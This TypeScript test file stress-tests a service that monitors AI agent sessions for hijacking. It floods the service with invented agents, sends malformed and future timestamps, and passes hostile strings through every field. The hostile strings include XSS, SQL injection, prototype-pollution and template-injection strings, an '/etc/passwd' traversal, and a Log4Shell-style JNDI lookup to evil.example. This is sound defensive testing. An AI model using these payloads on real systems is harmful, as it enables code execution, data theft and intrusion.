import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Incident } from '../../src/model/incident.js';
import type { WireObservation } from '../../src/model/wire.js';
import { openStore } from '../../src/store/store.js';
import { fixInstallSeed, prepareService, ServiceProcess, type ServiceSetup } from '../support/service-process.js';
import { sendSessions, spread, timeMoves, type Session } from '../support/session-traffic.js';
import { syntheticSession } from '../support/synthetic-sessions.js';
import { temporaryDirectory } from '../support/temporary-directory.js';

const AGENT = 'agent-office';
const MINUTE_MS = 60_000;
const DAY_MS = 24 * 60 * MINUTE_MS;
const LEARNED = Date.now() - 10 * DAY_MS;
const EVENTS = Date.now() - 5 * DAY_MS;
/** Strangers in all, and how many of them come at once. */
const STRANGERS = 100_000;
const AT_ONCE = 10_000;
/** Far fewer than there will be, so that the caps are what holds. */
const CAPS = { maxSessions: 10_000, maxWindows: 15_000, maxAgents: 5_000 };
const MIB = 1024 * 1024;
const SETTINGS = {
  join: { outOfOrderMs: DAY_MS / 4, idleMs: DAY_MS, maxSessions: CAPS.maxSessions, maxWindows: CAPS.maxWindows },
  detection: { falseAlarmBudget: 0.05, maxAgents: CAPS.maxAgents },
  respond: { caps: { commandsPerMinute: 1_000_000 } },
};

describe('the whole service under hostile input', () => {
  const directory = temporaryDirectory();
  let events: Session[] = [];
  let flooded: ServiceProcess;

  beforeAll(async () => {
    const ten = Array.from({ length: 60 }, (_, n) =>
      syntheticSession(1_000 + n, { agentId: AGENT, startMs: 0, hijacked: n % 6 === 5 }),
    );
    events = spread(ten, EVENTS, MINUTE_MS);
    flooded = await trainedService('flooded');
  }, 120_000);

  afterAll(async () => {
    await flooded.stop();
    directory.remove();
  });

  it(`stays small under ${STRANGERS} invented agents, and its neighbours are judged as in peace`, async () => {
    const quiet = await trainedService('quiet');
    await send(quiet, events);
    await endOf(quiet);
    const expected = await judgements(quiet);
    await quiet.stop();
    expect(expected.length).toBeGreaterThan(5);

    const residentMib: number[] = [];
    const anonymousMib: number[] = [];
    const rounds = STRANGERS / AT_ONCE;
    const share = Math.ceil(events.length / rounds);
    for (let round = 0; round < rounds; round++) {
      const strangers = invented(round);
      // The neighbour's sessions go on in the middle of it.
      await Promise.all([
        flooded.observe('gateway', strangers).then((report) => expect(report.accepted).toBe(AT_ONCE)),
        send(flooded, events.slice(round * share, (round + 1) * share)),
      ]);
      const { memory } = await flooded.settled();
      residentMib.push(Math.round(memory.residentBytes / MIB));
      anonymousMib.push(Math.round(anonymousBytes(flooded.pid, memory.residentBytes) / MIB));
    }
    await endOf(flooded);
    const status = await flooded.settled({ stored: true });
    console.log(`resident MiB, one number per ${AT_ONCE} strangers: ${residentMib.join(' ')}`);
    console.log(`of it not mapped from the log's file: ${anonymousMib.join(' ')}`);
    console.log(`join ${JSON.stringify(status.join)}, baselines ${JSON.stringify(status.baselines)}`);

    expect(await judgements(flooded)).toEqual(expected);
    expect(status.join['sessionsEvicted']).toBeGreaterThan(STRANGERS / 2);
    expect(status.join['openSessions']).toBeLessThanOrEqual(CAPS.maxSessions);
    expect(status.join['openWindows']).toBeLessThanOrEqual(CAPS.maxWindows);
    expect(status.baselines['openSessions']).toBeLessThanOrEqual(CAPS.maxSessions);
    // Whatever the join gives up is closed properly: learned, discarded or kept for a person.
    expect(status.baselines['sessionsEvicted']).toBe(0);
    expect(status.scoring.faults).toBe(0);
    expect(status.storing).toMatchObject({ refusedRows: 0, lostRecords: 0 });
    // The caps are full after a fifth of them; what comes later must not stay. The 50,000 sessions of the second half
    // would take more than a GiB; the rest is what the collector has not come to between two checkpoints.
    const full = Math.max(...anonymousMib.slice(0, rounds / 2));
    expect(Math.max(...anonymousMib)).toBeLessThan(full + 640);
  }, 240_000);

  it('keeps what it knows of an agent through a flood of strangers that it learns from', async () => {
    // Vouched for: the worst case, every stranger is learned.
    await flooded.post('/v1/learning', { mode: 'vouched' });
    await flooded.observe('gateway', strangers(STRANGERS / AT_ONCE, EVENTS + 3 * DAY_MS));
    for (const { speaker, observation } of timeMoves(EVENTS + 4 * DAY_MS))
      await flooded.observe(speaker, [observation]);
    const { baselines, memory } = await flooded.settled();
    console.log(`resident ${Math.round(memory.residentBytes / MIB)} MiB, baselines ${JSON.stringify(baselines)}`);
    // A quarter of the room is for agents that are not known yet; they push out each other.
    expect(baselines['agents']).toBe(1 + CAPS.maxAgents / 4);
    expect(baselines['agentsDropped']).toBeGreaterThan(0);
    await flooded.post('/v1/learning', { mode: 'frozen' });
    const before = (await judgements(flooded)).length;
    const hijacked = syntheticSession(7_777, { agentId: AGENT, startMs: 0, hijacked: true });
    await send(flooded, spread([hijacked], EVENTS + 4 * DAY_MS + 60 * MINUTE_MS, MINUTE_MS));
    await flooded.settled();
    expect(await judgements(flooded)).toHaveLength(before + 1);
  });

  it('counts impossible and future times, and takes their neighbours', async () => {
    const before = await flooded.settled();
    const future = Date.now() + 30 * DAY_MS;
    const body = `[
      {"id":"t1","time":NaN,"agentId":"a","stream":"metric","kind":"sample","values":{"x":1}},
      {"id":"t2","time":-1,"agentId":"a","stream":"metric","kind":"sample","values":{"x":1}},
      {"id":"t3","time":1e300,"agentId":"a","stream":"metric","kind":"sample","values":{"x":1}},
      {"id":"t4","time":"tomorrow","agentId":"a","stream":"metric","kind":"sample","values":{"x":1}},
      {"id":"t5","time":${future},"agentId":"a","stream":"metric","kind":"sample","values":{"x":1}},
      {"id":"t6","time":${EVENTS},"agentId":"a","stream":"metric","kind":"sample","values":{"x":1}},
      {"id":"t7","time":${EVENTS},"agentId":"a","stream":"metric","kind":"sample","values":{"x":NaN}}]`;
    const response = await flooded.request('/v1/observations', body, flooded.setup.keys.platform);
    const report: unknown = await response.json();
    expect(report).toMatchObject({
      accepted: 2,
      refused: [
        { index: 0, field: '' },
        { index: 1, field: 'time' },
        { index: 2, field: 'time' },
        { index: 3, field: 'time' },
        { index: 6, field: '' },
      ],
    });
    const after = await flooded.settled();
    expect((after.join['future'] ?? 0) - (before.join['future'] ?? 0)).toBe(1);
    expect((after.intake['refused'] ?? 0) - (before.intake['refused'] ?? 0)).toBe(5);
    expect(after.scoring.faults).toBe(0);
  });

  it('carries hostile texts through to people and ClickHouse as plain data', async () => {
    const before = await flooded.settled({ stored: true });
    const nasty = [
      '<script>alert(1)</script>',
      "'; DROP TABLE observations; --",
      '__proto__',
      'a\u0000b\u001b[2Jc',
      '\u202Egnp.exe',
      '{{constructor.constructor("return process")()}}',
      '../../../../etc/passwd',
      'a'.repeat(250),
      '%s%n${jndi:ldap://evil.example/a}',
      'ﷺ'.repeat(80),
    ];
    const records: WireObservation[] = nasty.flatMap((text, i) => [
      {
        time: EVENTS + i,
        agentId: text,
        sessionId: text,
        stream: 'action',
        kind: 'tool_call',
        tool: text,
        effect: 'write',
        args: { [text]: text, nested: { deep: [text] } },
        decision: 'allow',
        reason: text,
        ruleId: text,
      },
      {
        time: EVENTS + i,
        agentId: text,
        sessionId: text,
        stream: 'action',
        kind: 'tool_result',
        tool: text,
        text: text.repeat(500),
      },
    ]);
    expect(await flooded.observe('gateway', records)).toEqual({ accepted: records.length, refused: [] });
    const spoken: WireObservation[] = nasty.map((text, i) => ({
      time: EVENTS + i,
      agentId: text,
      sessionId: text,
      stream: 'reasoning',
      kind: 'prompt',
      text,
    }));
    expect(await flooded.observe('agent-runtime', spoken)).toEqual({ accepted: spoken.length, refused: [] });

    const big = JSON.stringify([
      { time: EVENTS, agentId: 'a', stream: 'reasoning', kind: 'prompt', text: 'x'.repeat(10 * MIB) },
      { time: EVENTS, agentId: 'a', stream: 'reasoning', kind: 'prompt', text: 'short' },
    ]);
    const tooBig = await flooded.request('/v1/observations', big, flooded.setup.keys['agent-runtime']);
    expect(await tooBig.json()).toMatchObject({ accepted: 1, refused: [{ index: 0 }] });
    const deep = `{"time":1,"agentId":"a","stream":"action","kind":"tool_call","tool":"t","decision":"allow","args":{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}}`;
    const tooDeep = await flooded.request('/v1/observations', deep, flooded.setup.keys.gateway);
    expect(await tooDeep.json()).toMatchObject({ accepted: 0, refused: [{ index: 0, field: '' }] });
    for (const rubbish of ['', '{', '[[[[', 'null', '"text"', '\u0000', '[1,2,3]', '{"time":1}']) {
      const answer = await flooded.request('/v1/observations', rubbish, flooded.setup.keys.gateway);
      expect([200, 400]).toContain(answer.status);
    }

    const status = await flooded.settled({ stored: true });
    expect(status.scoring.faults).toBe(0);
    expect(status.storing).toMatchObject({ refusedRows: 0, lostRecords: 0 });
    const accepted = records.length + spoken.length + 1;
    expect(status.scoring.observations - before.scoring.observations).toBe(accepted);
    const shown = await fetch(`${flooded.url}/v1/incidents?limit=1000`, {
      headers: { authorization: `Bearer ${flooded.setup.keys.admin}` },
    });
    expect(shown.headers.get('content-type')).toContain('application/json');
    expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
    // Control characters and reversed writing direction reach no terminal and no page.
    // oxlint-disable-next-line no-control-regex
    expect(await shown.text()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);

    // Nothing that was accepted since the first start is missing, whatever stood in it.
    const total = status.intake['accepted'];
    expect(await flooded.stop()).toBe(0);
    expect(await storedObservations(flooded.setup.dataDir)).toBe(total);
  }, 120_000);

  async function trainedService(name: string): Promise<ServiceProcess> {
    const setup: ServiceSetup = prepareService(join(directory.path, name), SETTINGS);
    fixInstallSeed(setup.dataDir, 7);
    const service = await ServiceProcess.start(setup);
    await service.post('/v1/learning', { mode: 'vouched' });
    await send(service, learned());
    for (const { speaker, observation } of timeMoves(LEARNED + 2 * DAY_MS))
      await service.observe(speaker, [observation]);
    await service.settled();
    await service.post('/v1/calibrate', {});
    await service.post('/v1/learning', { mode: 'frozen' });
    await service.settled();
    return service;
  }
});

function learned(): Session[] {
  const sessions = Array.from({ length: 120 }, (_, n) => syntheticSession(n, { agentId: AGENT, startMs: 0 }));
  return spread(sessions, LEARNED, MINUTE_MS);
}

async function send(service: ServiceProcess, sessions: readonly Session[]): Promise<void> {
  await sendSessions(sessions, {
    post: async (speaker, batch) => void (await service.observe(speaker, batch)),
    groupSize: 10,
    inFlight: 1,
  });
}

/** Moves event time far beyond everything, so that what is open ends. */
async function endOf(service: ServiceProcess): Promise<void> {
  for (const { speaker, observation } of timeMoves(EVENTS + 2 * DAY_MS)) await service.observe(speaker, [observation]);
  await service.settled();
}

/** What was made of the neighbour's sessions, without the places in the log and the times of processing. */
async function judgements(service: ServiceProcess) {
  const answer = (await service.get(`/v1/incidents?agentId=${AGENT}&limit=1000`)) as { incidents: Incident[] };
  return answer.incidents
    .map(({ id, sessionId, openedSeq, riskNats, thresholdNats, title, signals }) => ({
      id,
      sessionId,
      openedSeq,
      riskNats,
      thresholdNats,
      title,
      signalIds: signals.map((signal) => signal.id),
    }))
    .sort((a, b) => (a.id < b.id ? -1 : 1));
}

/**
 * Agents that nobody has ever heard of, one session each. One in 25 changes something, which makes an incident of its
 * own: no more than the service keeps at hand.
 */
function invented(round: number): WireObservation[] {
  return strangers(round, EVENTS + round * MINUTE_MS);
}

/** Every one of them writes, to somebody nobody has heard of, with a tool nobody has seen. */
function strangers(round: number, startMs: number): WireObservation[] {
  return Array.from({ length: AT_ONCE }, (_, i): WireObservation => {
    const n = round * AT_ONCE + i;
    const common = {
      id: `stranger-${n}`,
      time: startMs + Math.floor((i * MINUTE_MS) / AT_ONCE),
      agentId: `stranger-${n}-${'x'.repeat(n % 200)}`,
      sessionId: `s-${n}`,
      callId: `c-${n}`,
      stream: 'action',
      tool: `tool-${n % 5_000}`,
    } as const;
    const args = { to: `somebody-${n}@evil.example`, amount: n };
    return { ...common, kind: 'tool_call', effect: 'write', args, decision: 'allow' };
  });
}

/** Distinct observations in ClickHouse, of a data directory that no process uses. */
async function storedObservations(dataDir: string): Promise<number> {
  const store = await openStore({
    url: 'embedded',
    database: 'parallax',
    username: '',
    password: '',
    dataDir,
    observationDays: 90,
    payloadDays: 7,
    baselineDays: 365,
  });
  try {
    return await store.queries.distinctObservations('default');
  } finally {
    await store.close();
  }
}

/** Resident memory without the pages of files, which the system takes back when it needs them. Linux; elsewhere all. */
function anonymousBytes(pid: number, residentBytes: number): number {
  try {
    const kib = /^RssAnon:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
    return kib === undefined ? residentBytes : Number(kib) * 1024;
  } catch {
    return residentBytes;
  }
}
